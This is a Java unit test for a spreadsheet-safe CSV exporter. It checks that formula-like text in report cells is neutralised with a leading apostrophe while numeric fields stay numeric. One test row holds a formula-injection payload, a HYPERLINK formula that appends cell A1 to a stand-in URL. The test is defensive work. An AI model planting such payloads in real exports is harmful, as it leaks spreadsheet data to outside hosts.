package com.luckify.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import net.sf.jasperreports.engine.JasperCompileManager;
import net.sf.jasperreports.engine.JasperFillManager;
import net.sf.jasperreports.engine.JasperPrint;
import net.sf.jasperreports.engine.JasperReport;
import net.sf.jasperreports.engine.data.JRMapCollectionDataSource;
import net.sf.jasperreports.export.SimpleExporterInput;
import net.sf.jasperreports.export.SimpleWriterExporterOutput;
import org.junit.jupiter.api.Test;

/** A filled report through the exporter: typed text neutralised, numbers of the report left as numbers. */
class SpreadsheetSafeCsvExporterTest {

    private static final String TEMPLATE = """
            <?xml version="1.0" encoding="UTF-8"?>
            <jasperReport name="Cells" language="java" pageWidth="400" pageHeight="100" columnWidth="400"
                          leftMargin="0" rightMargin="0" topMargin="0" bottomMargin="0">
                <style name="Base" default="true" fontName="Luckify Sans" fontSize="8"/>
                <field name="name" class="java.lang.String"/>
                <field name="points" class="java.lang.Long"/>
                <detail>
                    <band height="13">
                        <element kind="textField" x="0" y="0" width="300" height="13" blankWhenNull="true"><expression><![CDATA[$F{name}]]></expression></element>
                        <element kind="textField" x="300" y="0" width="100" height="13" pattern="#,##0" blankWhenNull="true"><expression><![CDATA[$F{points}]]></expression></element>
                    </band>
                </detail>
            </jasperReport>
            """;

    @Test
    void typedTextIsNeutralisedAndNumbersStayNumbers() throws Exception {
        JasperReport report = JasperCompileManager.compileReport(
                new ByteArrayInputStream(TEMPLATE.getBytes(StandardCharsets.UTF_8)));
        List<Map<String, ?>> rows = List.of(
                Map.of("name", "=HYPERLINK(\"http://x\"&A1,\"x\")", "points", -5L),
                Map.of("name", "+SUM(1,2)", "points", 1234L),
                Map.of("name", "-5", "points", 7L),
                Map.of("name", "电饭煲", "points", 0L));
        JasperPrint print = JasperFillManager.fillReport(report, new HashMap<>(), new JRMapCollectionDataSource(rows));
        StringWriter out = new StringWriter();
        SpreadsheetSafeCsvExporter exporter = new SpreadsheetSafeCsvExporter();
        exporter.setExporterInput(new SimpleExporterInput(print));
        exporter.setExporterOutput(new SimpleWriterExporterOutput(out));

        exporter.exportReport();

        assertThat(out.toString().lines().toList()).containsExactly(
                "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"x\"\")\",-5",
                "\"'+SUM(1,2)\",\"1,234\"",
                "\"'-5\",7",
                "电饭煲,0");
    }
}
